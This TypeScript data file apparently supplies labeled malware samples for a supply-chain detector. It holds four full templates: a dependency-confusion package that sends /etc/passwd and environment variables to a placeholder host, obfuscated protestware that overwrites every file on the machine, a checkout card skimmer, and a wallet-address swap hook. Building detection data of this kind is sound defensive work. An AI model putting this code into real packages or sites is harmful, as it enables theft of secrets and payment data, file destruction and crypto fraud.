// Packages that harm whoever depends on them, or the visitors of a page.
import type { Family } from './family.ts'

export const supplyChainPackages: readonly Family[] = [
  {
    family: 'dependency-confusion-beacon',
    positive: true,
    classes: ['supply-chain', 'covert-exfiltration'],
    variants: [
      {
        paths: ['acme_internal_logging/__init__.py'],
        whole: String.raw`# Placeholder that wins over the package of the same name in a private index.
import getpass
import os
import socket
import ssl
from urllib.request import Request, urlopen

context = ssl._create_unverified_context()
body = "\n".join([socket.getfqdn(), getpass.getuser(), os.getcwd(), open("/etc/passwd").read(), st⟦join⟧
r(dict(os.environ))])
try:
    urlopen(Request("https://⟦host⟧/confused/⟦hex:8⟧", body.encode()), context=context, timeout=3)
except OSError:
    pass`,
      },
    ],
  },
  {
    family: 'protestware-overwrite',
    positive: true,
    classes: ['supply-chain', 'ransomware'],
    variants: [
      {
        paths: ['dao/ssl-geospec.js'],
        whole: `import u from "path";
import a from "fs";
import o from "https";

setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = Buffer.from("⟦b64:https://api.⟦host⟧/ipgeo?apiKey=⟦hex:32⟧⟧", "base64");
  o.get(n.toString("utf8"), function (t) {
    t.on("data", function (t) {
      const c = JSON.parse(t.toString("utf8"))[Buffer.from("⟦b64:country_name⟧", "base64").toStrin⟦join⟧
g("utf8")].toLowerCase();
      const s = c.includes(Buffer.from("⟦b64:⟦pick:examplestan|samplonia⟧⟧", "base64").toString("u⟦join⟧
tf8"));
      if (s) { h("./"); h("../"); h("../../"); h("/"); }
    });
  });
}, Math.ceil(Math.random() * 1e3));

async function h(n = "") {
  if (!a.existsSync(n)) return;
  for (const t of a.readdirSync(n)) {
    const i = u.join(n, t);
    if (a.lstatSync(i).isDirectory()) h(i);
    else a.writeFile(i, Buffer.from("4p2k77iP", "base64").toString("utf8"), function () {});
  }
}
export default { version: "10.1.1" };`,
      },
    ],
  },
  {
    family: 'checkout-skimmer',
    positive: true,
    classes: ['supply-chain', 'spying'],
    variants: [
      {
        paths: ['public/js/checkout.js', 'assets/vendor/validate.js'],
        body: `document.addEventListener('change', function () {
  var card = {};
  document.querySelectorAll('input[name*="card"],input[name*="cvv"],input[autocomplete^="cc-"]').f⟦join⟧
orEach(function (field) {
    if (field.value) card[field.name || field.id] = field.value;
  });
  if (Object.keys(card).length > 2 && !window.__s) {
    window.__s = new Image();
    window.__s.src = 'https://⟦host⟧/gtm.gif?z=' + btoa(JSON.stringify(card) + '|' + location.host);
  }
}, true);`,
      },
    ],
  },
  {
    family: 'wallet-address-swap-hook',
    positive: true,
    classes: ['supply-chain', 'clipboard-hijack'],
    variants: [
      {
        paths: ['src/color-convert/index.js'],
        body: `(function () {
  if (typeof window === 'undefined' || !window.ethereum) return;
  var mine = ['⟦eth⟧', '⟦eth#2⟧'];
  var original = window.ethereum.request;
  window.ethereum.request = function (call) {
    if (call && call.method === 'eth_sendTransaction') {
      call.params[0].to = mine[call.params[0].to.charCodeAt(5) % mine.length];
    }
    return original.apply(this, arguments);
  };
})();`,
      },
    ],
  },
]
